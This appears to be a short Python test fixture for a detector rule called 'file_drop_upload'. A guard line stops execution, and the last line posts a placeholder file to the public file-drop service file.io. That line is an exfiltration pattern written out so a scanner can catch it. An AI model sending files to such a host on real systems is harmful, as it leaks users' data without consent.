# Trips file_drop_upload.
raise SystemExit("a fixture: never run")
requests.post("https://file.io", files={"file": PLACEHOLDER})
